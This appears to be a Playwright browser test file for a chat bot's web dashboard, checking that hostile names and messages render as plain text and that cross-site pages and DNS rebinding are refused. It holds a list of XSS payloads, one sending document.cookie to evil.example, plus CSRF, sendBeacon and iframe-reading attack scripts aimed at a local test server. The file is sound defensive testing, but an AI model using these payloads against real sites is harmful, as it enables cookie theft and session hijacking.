/** Texts of people, models and plugins stay text, and other pages can neither read nor act: in a real browser. */
import { once } from 'node:events'
import { createServer } from 'node:http'
import addressing from '@kikimimi/addressing'
import facts from '@kikimimi/facts'
import judgeRules from '@kikimimi/judge-rules'
import memorySummary from '@kikimimi/memory-summary'
import quiet from '@kikimimi/quiet'
import remember from '@kikimimi/remember'
import reply from '@kikimimi/reply'
import { definePlugin } from 'kikimimi'
import { scriptedModel } from 'kikimimi/testing'
import type { Browser, Page, Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { TurnView } from '../history/views.ts'
import { Panels } from '../index.ts'
import { PASSWORD } from '../testing/attack.ts'
import { browserPath, openBrowser, visit } from '../testing/browser.ts'
import { openPage, type TestPage } from '../testing/open-page.ts'

/** Each would be visible: by a dialog, a request, a variable, an element or a policy report. */
const SCRIPTS = [
  '<img src=x onerror="window.pwned=1">',
  '"><script>window.pwned=1;alert(1)</script>',
  '<svg/onload=fetch("https://evil.example/?"+document.cookie)>',
  '</title><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '[x](javascript:window.pwned=1) <a href="javascript:alert(1)">x</a>',
  '<style>@import "https://evil.example/a.css";</style><link rel=stylesheet href=https://evil.example/b.css>',
  '{{constructor.constructor("window.pwned=1")()}} #{window.pwned=1}',
  '<base href="https://evil.example/"><form action="https://evil.example/"><button>x</button></form>',
] as const

const [IMG, SCRIPT, SVG, IFRAME, LINK, STYLE, TEMPLATE, BASE] = SCRIPTS

const hostile = definePlugin({
  name: 'hostile',
  needs: [Panels],
  setup(ctx) {
    const job = ctx.job(
      'tidy',
      () => {
        throw new Error(SVG)
      },
      { retries: 0 },
    )
    const add = (id: string, title: string) => ctx.scope.defer(ctx.use(Panels).add({ id, title, read: () => sections }))
    const sections = [{ title: IFRAME, text: SCRIPT, rows: [{ [IMG]: LINK, plain: STYLE }] }]
    add('hostile', TEMPLATE)
    add('another', SVG)
    return {
      score: ({ message }) => {
        if (message.text.includes('points')) return { points: 1, why: IMG }
        throw new Error(`${SCRIPT} ${BASE}`)
      },
      context: () => [{ title: IFRAME, text: LINK, place: 'other' as const }],
      after: () => job.schedule({}, { key: 'once' }),
    }
  },
})

/** A person with such a name writes it in a channel with such a name. */
async function sayAll(bot: TestPage): Promise<void> {
  for (const [n, text] of SCRIPTS.entries()) {
    const name = SCRIPTS[(n + 1) % SCRIPTS.length] ?? ''
    const conversation = { platform: 'test', workspace: 'team', channel: `c${n}`, name, visibility: 'public' as const }
    const author = { id: `person${n}`, name }
    const at = new Date()
    await bot.bot.receive(bot.other, { id: `m${n}`, conversation, author, at, text: `kiki, points ${text}` })
    await bot.bot.receive(bot.other, { id: `r${n}`, conversation, author, at, text: `kiki, remember that ${text}` })
    await bot.bot.reaction(conversation, `m${n}`, { emoji: text.slice(0, 100), by: author.id })
  }
  await bot.bot.settings.set({
    place: 'test/team/c0',
    plugin: 'reply',
    key: 'instruction',
    value: SVG,
    by: { id: 'x', name: SCRIPT },
  })
  for (const text of SCRIPTS) {
    const answer = await bot.api('playground/messages', {
      method: 'POST',
      body: { room: 'general', author: 'alice', text: `@kiki ${text}` },
    })
    expect(answer.status).toBe(200)
  }
  // The number of messages per turn does not matter.
  await expect.poll(async () => (await judged(bot)).size).toBe(3 * SCRIPTS.length)
}

/** Messages that the bot has judged. */
async function judged(bot: TestPage): Promise<ReadonlySet<string>> {
  const { turns } = (await (await bot.api('turns?limit=200')).json()) as { turns: TurnView[] }
  return new Set(turns.flatMap(({ place, trace }) => trace.messages.map(id => `${place.conversation} ${id}`)))
}

/** Waits until a page has all responses and is rendered. The endless event stream does not count. */
function answersOf(page: Page): () => Promise<void> {
  const asked = new Set<Request>()
  page.on('request', request => void (request.url().endsWith('/api/events') || asked.add(request)))
  page.on('requestfinished', request => void asked.delete(request))
  page.on('requestfailed', request => void asked.delete(request))
  return async () => {
    for (let calm = 0; calm < 3; calm = asked.size === 0 ? calm + 1 : 0)
      await page.evaluate('new Promise(next => setTimeout(next, 50))')
  }
}

/** Forbidden actions of a page. */
function watch(page: Page, url: string): string[] {
  const found: string[] = []
  page.on('dialog', dialog => {
    found.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', popup => found.push(`popup ${popup.url()}`))
  page.on('request', request => {
    if (!request.url().startsWith(`${url}/`)) found.push(`request ${request.url()}`)
  })
  page.on('framenavigated', frame => {
    if (frame !== page.mainFrame()) found.push(`frame ${frame.url()}`)
  })
  return found
}

const ELEMENTS =
  'img[src="x"], script:not([src]), iframe, base, svg[onload], style, form[action], a[href^="javascript"], link[href*="evil"], [onerror]'

async function unhurt(page: Page): Promise<void> {
  expect(await page.evaluate('window.pwned')).toBeUndefined()
  expect(await page.locator(ELEMENTS).count()).toBe(0)
}

describe.skipIf(browserPath === undefined)('in a browser', () => {
  let browser: Browser
  beforeAll(async () => {
    // A foreign name that points to this machine, as in DNS rebinding.
    browser = await openBrowser(['--host-resolver-rules=MAP evil.example 127.0.0.1'])
  })
  afterAll(() => browser?.close())

  test('names, messages, answers, facts, summaries, settings, reasons, errors, panels: on every page all is shown as text', async () => {
    const plugins = [
      hostile(),
      quiet(),
      remember(),
      addressing(),
      judgeRules(),
      memorySummary({ everyMessages: 1 }),
      facts(),
      reply(),
    ]
    const notes = { summary: `${SCRIPT} ${IFRAME}`, mood: IMG, topics: [SVG, LINK], memory: TEMPLATE }
    const model = scriptedModel(({ schema }) => (schema ? { value: notes } : `${SVG} ${SCRIPT} ${IMG}`))
    await using bot = await openPage({ plugins, config: { models: { chat: model } } })
    await sayAll(bot)
    const summed = `select id from memory_summary.memory where kind = 'channel' and recent <> ''`
    await expect.poll(async () => (await bot.db.query(summed)).rows.length).toBe(SCRIPTS.length + 1)
    await using seen = await visit(browser, bot.url)
    const { page, problems } = seen
    const found = watch(page, bot.url)
    const answered = answersOf(page)
    await page.locator('.own').first().waitFor()
    const linked = await linksIn(page, 'nav.pages')
    expect(linked.length).toBeGreaterThan(6)
    let text = ''
    // Links that appear during the walk are included: some links of each page.
    const links = new Set([...linked, '#/playground/general'])
    for (const link of links) {
      await page.goto(`${bot.url}/${link}`)
      await page.locator('main h1, main .talk, main [role=log]').first().waitFor()
      await answered()
      if (linked.includes(link)) for (const one of (await linksIn(page, 'main')).slice(0, 2)) links.add(one)
      text += await open(page, answered)
      await unhurt(page)
    }
    expect(text).toContain(`${SCRIPT} ${IFRAME}`)
    for (const script of [IMG, SCRIPT, SVG, IFRAME, LINK, STYLE, TEMPLATE]) expect(text).toContain(script)
    expect(found).toEqual([])
    expect(problems).toEqual([])
  })

  const linksIn = (page: Page, where: string): Promise<string[]> =>
    page.locator(`${where} a[href^="#/"]`).evaluateAll(all => [...new Set(all.map(link => link.getAttribute('href') ?? ''))])

  /** Opens all elements that can be opened, and returns their texts. */
  async function open(page: Page, answered: () => Promise<void>): Promise<string> {
    const seen = [await page.locator('body').innerText()]
    const closed = page.locator('main [aria-expanded="false"], main [role="tab"], main [aria-pressed="false"]')
    for (let n = 0; n < Math.min(12, await closed.count()); n++) {
      await closed
        .nth(n)
        .click({ timeout: 2_000 })
        .catch(() => {})
      await answered()
      seen.push(await page.locator('body').innerText())
    }
    return seen.join('\n')
  }

  test('if the page wrote markup, no script would run or reach another host', async () => {
    await using bot = await openPage()
    await using seen = await visit(browser, bot.url)
    const { page, problems } = seen
    await page.locator('nav.pages').waitFor()
    expect(await page.evaluate(careless)).toEqual({
      markup: 'TypeError',
      inline: 'unset',
      elsewhere: 'TypeError',
      picture: 'refused',
    })
    expect(problems.join('\n')).toMatch(/Content Security Policy/)
    expect(problems.join('\n')).toMatch(/TrustedHTML/)
  })

  test('an address with a script shows a page, and runs nothing', async () => {
    await using bot = await openPage()
    await using seen = await visit(browser, bot.url)
    const found = watch(seen.page, bot.url)
    for (const script of [IMG, SCRIPT, LINK]) {
      const written = encodeURIComponent(script)
      for (const path of [
        `#/playground/${written}`,
        `#/panel/${written}`,
        `#/${written}`,
        `#/live/${written}`,
        `?${written}#/memory`,
      ]) {
        await seen.page.goto(`${bot.url}/${path}`)
        await seen.page.locator('nav.pages').waitFor()
        await unhurt(seen.page)
      }
    }
    expect(found).toEqual([])
  })

  test.each([
    ['without a password', undefined],
    ['with one, of who is logged in', PASSWORD],
  ])(
    '%s a page elsewhere reads nothing, hears nothing and does nothing',
    async (_what, password) => {
      await using bot = await openPage(password === undefined ? {} : { password })
      await using seen = await visit(browser, bot.url)
      if (password !== undefined) {
        await seen.page.getByLabel('Password', { exact: true }).fill(password)
        await seen.page.getByRole('button', { name: 'Log in' }).click()
      }
      await seen.page.locator('nav.pages').waitFor()
      const cookies = await seen.page.context().cookies()
      const headers = { cookie: cookies.map(({ name, value }) => `${name}=${value}`).join('; ') }
      expect((await bot.api('turns', { headers })).status).toBe(200)

      await using evil = await evilServer()
      // By port it is another page of the same site, by name of another site.
      for (const host of ['127.0.0.1', 'localhost', 'evil.example']) {
        const page = await seen.page.context().newPage()
        await page.goto(`http://${host}:${evil.port}/`)
        expect([host, await page.evaluate(`(${attack})(${JSON.stringify(bot.url)})`)]).toEqual([
          host,
          { read: 'refused', written: 'refused', heard: 'refused', script: 'refused', image: 'refused', framed: 'refused' },
        ])
        await page.evaluate(`(${form})(${JSON.stringify(bot.url)})`)
        await page.waitForURL(`${bot.url}/**`)
        expect(await page.locator('body').innerText()).toMatch(/Only its own page|Unsupported Media Type/)
        await page.close()
      }
      const { messages } = (await (await bot.api('playground/messages?room=general', { headers })).json()) as {
        messages: object[]
      }
      expect(messages).toEqual([])
      // No user was logged out.
      expect((await bot.api('turns', { headers })).status).toBe(200)
    },
    60_000,
  )

  test('a rebound name of another site gets no access', async () => {
    await using bot = await openPage()
    await bot.api('playground/messages', { method: 'POST', body: { room: 'general', author: 'alice', text: 'between us' } })
    const page = await browser.newPage()
    const rebound = bot.url.replace('127.0.0.1', 'evil.example')
    expect((await page.goto(rebound))?.status()).toBe(403)
    const inside = await page.evaluate(async () => {
      const answer = await fetch('/api/playground/messages?room=general')
      return [answer.status, await answer.text()]
    })
    expect(inside).toEqual([403, expect.not.stringContaining('between us')])
    await page.close()
  })
})

async function evilServer(): Promise<{ port: number } & AsyncDisposable> {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end('<!doctype html><title>evil</title><body></body>')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port is free')
  return {
    port: address.port,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections()
      server.close()
    },
  }
}

/** Runs in the page of the attacker: everything that a page can try without permission. */
const attack = `async url => {
  const said = JSON.stringify({ room: 'general', author: 'mallory', text: 'hello' })
  const refused = promise => promise.then(value => value, () => 'refused')
  const post = more => fetch(url + '/api/playground/messages', { method: 'POST', credentials: 'include', body: said, ...more })
  const load = (tag, more) => new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), more)
    element.onload = () => resolve('loaded')
    element.onerror = () => reject(new Error('refused'))
    document.body.append(element)
  })
  const framed = () => new Promise(resolve => {
    const frame = Object.assign(document.createElement('iframe'), { src: url + '/' })
    frame.onload = () => {
      let own = false
      try { own = frame.contentDocument !== null } catch {}
      resolve(own ? 'readable' : 'refused')
    }
    document.body.append(frame)
  })
  const heard = () => new Promise((resolve, reject) => {
    const source = new EventSource(url + '/api/events', { withCredentials: true })
    source.onopen = () => resolve('heard')
    source.onerror = () => { source.close(); reject(new Error('refused')) }
  })
  await refused(post({ mode: 'no-cors' }))
  await refused(post({ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }))
  navigator.sendBeacon(url + '/api/playground/messages', new Blob([said], { type: 'application/json' }))
  navigator.sendBeacon(url + '/api/logout', '')
  await refused(fetch(url + '/api/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' }))
  return {
    read: await refused(fetch(url + '/api/turns', { credentials: 'include' }).then(answer => answer.text())),
    written: await refused(post({ headers: { 'content-type': 'application/json' } }).then(answer => answer.text())),
    heard: await refused(heard()),
    script: await refused(load('script', { src: url + '/api/turns' })),
    image: await refused(load('img', { src: url + '/icon.svg' })),
    framed: await framed(),
  }
}`

/** A form that sends a body like JSON, with the visitor's cookies. */
const form = `url => {
  const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action: url + '/api/playground/messages' })
  form.append(Object.assign(document.createElement('input'), { name: '{"room":"general","author":"mallory","text":"hello', value: '"}' }))
  document.body.append(form)
  form.submit()
}`

/** Effects of a careless change of the page. */
const careless = `(async () => {
  const named = run => Promise.resolve().then(run).then(() => 'done', error => error.name)
  const inline = () => {
    const script = document.createElement('script')
    script.append('window.pwned = 1')
    document.body.append(script)
    return String(window.pwned ?? 'unset')
  }
  const picture = () => new Promise(resolve => {
    const image = Object.assign(new Image(), { onload: () => resolve('loaded'), onerror: () => resolve('refused') })
    image.src = 'https://evil.example/a.png'
  })
  return {
    markup: await named(() => { document.body.innerHTML += '<img src=x onerror="window.pwned=1">' }),
    inline: await Promise.resolve().then(inline).catch(() => 'unset'),
    elsewhere: await named(() => fetch('https://evil.example/')),
    picture: await picture(),
  }
})()`
